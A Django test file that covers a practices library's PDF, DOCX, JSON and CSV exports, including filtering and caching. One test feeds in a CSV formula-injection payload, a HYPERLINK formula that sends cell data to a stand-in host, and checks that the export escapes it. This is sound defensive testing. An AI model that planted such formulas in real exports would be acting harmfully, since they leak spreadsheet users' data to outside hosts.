"""A practice as PDF and DOCX, the library as JSON and CSV."""

import csv
import io
import json

from django.urls import reverse


def body(response) -> bytes:
    """The content of a response, streamed (built on this request) or not (from the cache)."""
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_pdf_export_is_a_pdf(client, publish):
    practice = publish()
    response = client.get(
        reverse("practices:pdf", kwargs={"project": practice.project.slug, "pk": practice.pk})
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")


def test_json_and_csv_exports_apply_the_filters(client, publish):
    publish(texts={"title": {"en": "Green one"}}, theme="greener")
    publish(texts={"title": {"en": "Social one"}})
    data = json.loads(body(client.get("/en/practices/export.json", {"theme": "greener"})))
    assert [item["title"]["en"] for item in data["practices"]] == ["Green one"]
    assert "contact_email" not in data["practices"][0]
    csv_text = body(client.get("/en/practices/export.csv", {"q": "social"})).decode("utf-8-sig")
    assert "Social one" in csv_text and "Green one" not in csv_text
    assert client.get("/en/practices/export.xml").status_code == 404


def test_docx_export_holds_every_section(client, publish):
    from docx import Document

    practice = publish()
    response = client.get(
        reverse("practices:docx", kwargs={"project": practice.project.slug, "pk": practice.pk})
    )
    assert response.status_code == 200
    document = Document(io.BytesIO(response.content))
    text = "\n".join(paragraph.text for paragraph in document.paragraphs)
    assert "Textile reuse shop" in text
    assert "Potential for learning or transfer" in text
    assert "Any region with a textile collection scheme can copy it." in text
    cells = [cell.text for row in document.tables[0].rows for cell in row.cells]
    assert "Cáceres" in cells


def test_library_csv_cells_never_run_as_formulas(client, publish):
    """A title typed as a formula reached Excel as one; now every cell that starts like one is text."""
    publish(texts={"title": {"en": '=HYPERLINK("http://evil.example/?x="&A1,"Click")'}}, city="@SUM(A1)")
    rows = list(csv.reader(io.StringIO(body(client.get("/en/practices/export.csv")).decode("utf-8-sig"))))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["title_en"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert record["city"] == "'@SUM(A1)"
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def test_the_library_export_is_streamed_then_served_from_the_cache_until_a_practice_changes(
    client, publish, django_capture_on_commit_callbacks
):
    publish(texts={"title": {"en": "Green one"}})
    first = client.get("/en/practices/export.csv", {"utm_source": "x"})
    assert first.streaming and first["X-Page-Cache"] == "miss"
    content = body(first)
    second = client.get("/en/practices/export.csv")
    assert second["X-Page-Cache"] == "hit"
    assert second.content == content
    assert second["Content-Disposition"] == 'attachment; filename="good-practices-all.csv"'
    assert client.get("/en/practices/export.csv", {"q": "green"})["X-Page-Cache"] == "miss"
    with django_capture_on_commit_callbacks(execute=True):
        publish(texts={"title": {"en": "Social one"}})
    third = client.get("/en/practices/export.csv")
    assert third["X-Page-Cache"] == "miss"
    assert "Social one" in body(third).decode("utf-8-sig")
